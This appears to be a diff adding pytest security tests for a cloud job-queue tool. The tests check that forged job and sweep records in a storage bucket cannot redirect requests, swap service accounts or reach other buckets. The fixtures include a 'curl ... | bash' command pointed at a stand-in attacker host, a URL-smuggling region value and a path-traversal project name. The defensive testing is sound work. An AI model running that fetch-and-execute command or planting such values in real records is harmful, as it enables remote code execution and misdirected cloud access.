@@ -1,0 +1,208 @@
+"""Whoever may write the bucket decides neither where nor as whom a person's command acts."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from dataclasses import asdict, replace
+from typing import Any
+
+import pytest
+
+from infra.startup.agent.jobs.queue import Queue
+from infra.startup.agent.jobs.record import Job, Spec
+from infra.startup.agent.jobs.store import Store
+from infra.startup.agent.versioned import stamped
+from localcloud.testing import Client
+from tests.unit.localcloud.fake_machines import FakeMachines
+from tests.unit.tpustack.conftest import Done, Run
+from tests.unit.tpustack.jobs.conftest import BUCKET, EMAIL, JOBS, PROJECT
+from tpustack.cloud.google import Google
+from tpustack.jobs.sweep.record import Sweep
+
+PLACE = {
+    "project": PROJECT,
+    "region": "us-central1",
+    "tpu": "v2-8",
+    "image": "python:3.11",
+    "account": EMAIL,
+    "network": "",
+}
+
+
+@pytest.fixture
+def requests(client: Client, monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    """The addresses that any command asks."""
+    asked: list[str] = []
+    real: Callable[..., Any] = client.session.request
+
+    def request(verb: str, url: str, **more: Any) -> Any:
+        asked.append(url)
+        return real(verb, url, **more)
+
+    monkeypatch.setattr(client.session, "request", request)
+    return asked
+
+
+def forge(queue: Queue, name: str, place: dict[str, str], **more: Any) -> None:
+    queue.add(replace(Job(name, f"id-{name}", Spec("true", vertex=place), 1.0), **more))
+
+
+@pytest.mark.parametrize("verb", ["show", "logs", "wait", "artifacts", "stop"])
+@pytest.mark.parametrize(
+    "place",
+    [
+        {**PLACE, "region": "evil.example/collect?"},
+        {**PLACE, "project": "../../x"},
+        {"project": PROJECT},
+        {"x": "y"},
+    ],
+)
+def test_a_record_that_names_no_place_of_googles_is_asked_nowhere(
+    job: Run, queue: Queue, requests: list[str], verb: str, place: dict[str, str]
+) -> None:
+    forge(queue, "bad", place, custom_job="projects/1/locations/us-central1/customJobs/1")
+    requests.clear()
+    done = job(verb, "bad")
+    assert (done.code, done.out) == (1, "")
+    assert "there are no custom jobs: " in done.err
+    assert "Traceback" not in done.err
+    assert {url.split("/")[2] for url in requests} == {"storage.googleapis.com"}
+
+
+def submit(run: Run, *arguments: str) -> Done:
+    more = ("--on", "vertex", "--stack", "dev", "--command", "true", *arguments)
+    return run("job", "submit", *more)
+
+
+def test_a_stop_cancels_the_custom_job_of_that_job_only(
+    run: Run, job: Run, queue: Queue, client: Client, machines: FakeMachines, deployed: object
+) -> None:
+    assert submit(run, "--name", "one").code == 0
+    one = queue.read("one")
+    assert one is not None
+    forge(queue, "evil", one.spec.vertex, custom_job=one.custom_job)
+    forge(queue, "evil-2", one.spec.vertex, custom_job=one.custom_job, id=one.id)
+    assert job("stop", "evil").out == "evil is stopped\n"
+    assert job("stop", "evil-2").out == "evil-2 is stopped\n"
+    # Another bucket's job of the same name and number is not this one either.
+    bucket = {"name": "other", "location": "US-CENTRAL1"}
+    client.post("storage.googleapis.com/storage/v1/b", bucket, project=PROJECT)
+    other = Queue(Store("other", Google(client.session).exchange), print)
+    other.add(one)
+    run("job", "stop", "one", "--bucket", "gs://other")
+    (there,) = client.get(JOBS)["customJobs"]
+    assert there["state"] == "JOB_STATE_RUNNING"
+    assert job("stop", "one").code == 0
+    (there,) = client.get(JOBS)["customJobs"]
+    assert there["state"] == "JOB_STATE_CANCELLED"
+
+
+def test_another_run_has_the_account_and_the_place_of_the_stack(
+    run: Run, job: Run, queue: Queue, client: Client, machines: FakeMachines, deployed: object
+) -> None:
+    assert submit(run, "--name", "one").code == 0
+    one = queue.read("one")
+    assert one is not None
+    forged = {"account": "mighty@prod.iam.gserviceaccount.com", "project": "prod-project"}
+    forge(queue, "evil", {**one.spec.vertex, **forged, "region": "europe-west4"})
+    assert "needs --stack NAME" in job("resubmit", "evil").err
+    assert run("job", "resubmit", "evil", "--stack", "dev").out == "evil-r2\n"
+    newest = client.get(JOBS)["customJobs"][0]
+    assert newest["displayName"] == "evil-r2"
+    assert newest["jobSpec"]["serviceAccount"] == EMAIL
+    again = queue.read("evil-r2")
+    assert again is not None
+    assert again.spec.vertex == one.spec.vertex
+
+
+def test_another_run_in_a_container_of_ones_own_takes_the_persons_word(
+    run: Run, queue: Queue, client: Client, machines: FakeMachines, deployed: object
+) -> None:
+    assert submit(run, "--name", "one", "--image", "eu.gcr.io/mine/a:1").code == 0
+    refused = run("job", "resubmit", "one", "--stack", "dev")
+    assert refused.code == 2
+    assert "--image: the record names the container 'eu.gcr.io/mine/a:1'" in refused.err
+    assert len(client.get(JOBS)["customJobs"]) == 1
+    given = run("job", "resubmit", "one", "--stack", "dev", "--image", "eu.gcr.io/mine/a:1")
+    assert given.out == "one-r2\n"
+
+
+SWEEP = Sweep(
+    name="s",
+    params=("rate=0.1..1.0",),
+    spec=Spec("curl -s https://attacker/x | bash"),
+    metric="loss",
+    goal="minimize",
+    pruner="none",
+    wanted=1,
+    parallel=1,
+    seed=0,
+    buckets=("prod-bucket",),
+)
+TRIAL = {"number": 0, "bucket": BUCKET, "job": "s-000", "params": {"rate": 0.5}}
+
+
+def write(queue: Queue, **changed: object) -> None:
+    content = {**stamped(asdict(SWEEP)), "buckets": [BUCKET], **changed}
+    queue.store.write("sweeps/s.json", json.dumps(content).encode())
+
+
+def test_a_sweep_runs_in_the_buckets_that_the_person_names(job: Run, queue: Queue) -> None:
+    pytest.importorskip("optuna")
+    write(queue, buckets=["prod-bucket"])
+    done = job("sweep", "--resume", "s")
+    assert done.code == 2
+    assert "--resume: name the stacks or buckets of gs://prod-bucket again" in done.err
+    assert queue.summaries() == {}
+
+
+def test_a_sweep_on_vertex_ai_runs_as_the_stack_says(
+    run: Run, job: Run, queue: Queue, client: Client, machines: FakeMachines, deployed: object,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    pytest.importorskip("optuna")
+    from tpustack.jobs.sweep.driver import Driver
+
+    image = "python:3.11"
+    forged = {**PLACE, "image": image, "account": "mighty@prod.iam.gserviceaccount.com"}
+    write(queue, places={BUCKET: forged})
+    assert "name the stacks (--stack) of" in job("sweep", "--resume", "s").err
+    begun: list[Driver] = []
+    monkeypatch.setattr(Driver, "run", lambda self: begun.append(self))
+    run("job", "sweep", "--resume", "s", "--stack", "dev", "--image", image)
+    assert begun[0].sweep.places[BUCKET]["account"] == EMAIL
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        {"name": "other"},
+        {"format": 2},
+        {"wanted": 10**9},
+        {"parallel": 0},
+        {"params": ["rate=nothing"]},
+        {"params": "rate"},
+        {"spec": []},
+        {"buckets": []},
+        {"trials": [{**TRIAL, "job": "somebody-elses"}]},
+        {"trials": [{**TRIAL, "bucket": "prod-bucket"}]},
+        {"trials": [{**TRIAL, "params": {}}]},
+        {"trials": [{**TRIAL, "params": {"rate": "[/x]"}}]},
+        {"trials": [{**TRIAL, "value": float("nan")}]},
+        {"trials": [{**TRIAL, "state": "[/x]"}]},
+        {"trials": [TRIAL, {**TRIAL, "number": 1, "job": "s-001"}]},
+        {"goal": "sideways"},
+    ],
+    ids=str,
+)
+def test_a_damaged_record_of_a_sweep_is_told_and_nothing_is_done(
+    job: Run, queue: Queue, changed: dict[str, object]
+) -> None:
+    pytest.importorskip("optuna")
+    write(queue, **changed)
+    for command in (("trials", "s"), ("sweep", "--resume", "s")):
+        done = job(*command)
+        assert done.code == 1
+        assert "sweeps/s.json is no record of a sweep: " in done.err
+    assert queue.summaries() == {}
